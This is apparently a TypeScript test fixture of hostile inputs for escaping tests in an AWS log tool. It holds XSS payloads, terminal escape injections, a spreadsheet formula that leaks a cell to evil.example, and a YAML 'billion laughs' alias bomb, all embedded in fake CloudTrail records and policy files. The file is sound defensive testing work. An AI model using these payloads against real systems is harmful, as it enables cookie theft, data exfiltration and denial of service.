/**
 * Hostile text for the output-escaping tests (issue 18): what anyone who can call an AWS API, or
 * write a policy file, may put into a field lakegov prints. Every output kind must show each of
 * these as inert text. Use HOSTILE for single values and hostileCloudTrailRecords() for the
 * activity commands' fixture.
 */
export const HOSTILE = {
  scriptUserAgent: '<script>alert(document.cookie)</script>',
  imgOnerror: '{"bucketName":"<img src=x onerror=alert(1)>"}',
  osc8Hyperlink: '\u001b]8;;https://evil.example/\u0007click here\u001b]8;;\u0007',
  clearScreen: '\u001b[2J\u001b[Hall clear',
  rightToLeftOverride: 'invoice\u202egpj.exe',
  formula: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
  pipeInName: 'logs|injected | cell',
  backticksInName: 'logs`code` ```fence',
  fenceBreakout: 'x\n```\n<img src=x onerror=alert(1)>\n```',
  markdownLink: '[Approve](https://evil.example/phish)',
  forgedLine: 'role/x\nok  everything is fine',
  c1Csi: 'c1 \u009b2J csi',
} as const

/**
 * CloudTrail records (the `Records` array of a log file) carrying the hostile strings in the
 * fields other people control: userAgent, requestParameters, errorMessage and resource names.
 */
export function hostileCloudTrailRecords(account = '123456789012', region = 'us-east-1'): Array<Record<string, unknown>> {
  const base = (index: number, fields: Record<string, unknown>) => ({
    eventVersion: '1.09',
    userIdentity: {type: 'AssumedRole', principalId: `AROAHOSTILE${index}:attacker`, arn: `arn:aws:sts::${account}:assumed-role/Attacker/attacker`, accountId: account},
    eventTime: `2026-11-20T10:0${index}:00Z`,
    eventSource: 'glue.amazonaws.com',
    eventName: 'GetTable',
    awsRegion: region,
    sourceIPAddress: '203.0.113.7',
    userAgent: 'aws-cli/2.15.0',
    requestParameters: {databaseName: 'cloudtrail', name: 'logs'},
    responseElements: null,
    requestID: `00000000-0000-4000-8000-00000000000${index}`,
    eventID: `10000000-0000-4000-8000-00000000000${index}`,
    readOnly: true,
    eventType: 'AwsApiCall',
    managementEvent: true,
    recipientAccountId: account,
    ...fields,
  })
  return [
    base(0, {userAgent: HOSTILE.scriptUserAgent}),
    base(1, {eventSource: 's3.amazonaws.com', eventName: 'GetObject', requestParameters: {bucketName: '<img src=x onerror=alert(1)>', key: 'AWSLogs/x.json.gz'}}),
    base(2, {userAgent: HOSTILE.osc8Hyperlink}),
    base(3, {userAgent: HOSTILE.clearScreen}),
    base(4, {requestParameters: {databaseName: 'cloudtrail', name: HOSTILE.rightToLeftOverride}}),
    base(5, {errorCode: 'AccessDenied', errorMessage: HOSTILE.formula}),
    base(6, {requestParameters: {databaseName: 'cloudtrail', name: `${HOSTILE.pipeInName} ${HOSTILE.backticksInName}`}}),
  ]
}

/** Policy files that attack the YAML reader. */
export const hostileYaml = {
  /** "Billion laughs": 9^7 copies of a string through nested aliases. */
  aliasBomb: [
    'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
    'b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]',
    'c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]',
    'd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]',
    'e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]',
    'f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]',
    'g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]',
    '',
  ].join('\n'),
  /** A valid grants-shaped file of about `size` characters. */
  large(size: number): string {
    const head = 'principals:\n'
    const line = (index: number) => `  p${String(index).padStart(7, '0')}: arn:aws:iam::111122223333:role/r\n`
    const count = Math.floor((size - head.length) / line(0).length)
    return head + Array.from({length: count}, (_, index) => line(index)).join('') + ' '.repeat(size - head.length - count * line(0).length)
  },
  /** `levels` nested flow sequences. */
  flowNesting: (levels: number) => `grants: ${'['.repeat(levels)}${']'.repeat(levels)}\n`,
  /** `levels` nested block sequences in compact form: `- - - x`. */
  blockNesting: (levels: number) => `grants:\n  ${'- '.repeat(levels)}x\n`,
}

/** RFC 4180 records, for checking that every field stayed a field. */
export function parseCsv(text: string): string[][] {
  const records: string[][] = []
  let field = ''
  let record: string[] = []
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const c = text[i]
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"'
        i++
      } else if (c === '"') quoted = false
      else field += c
    } else if (c === '"' && field === '') quoted = true
    else if (c === ',') {
      record.push(field)
      field = ''
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(field)
      records.push(record)
      record = []
      field = ''
      i++
    } else field += c
  }
  return records
}
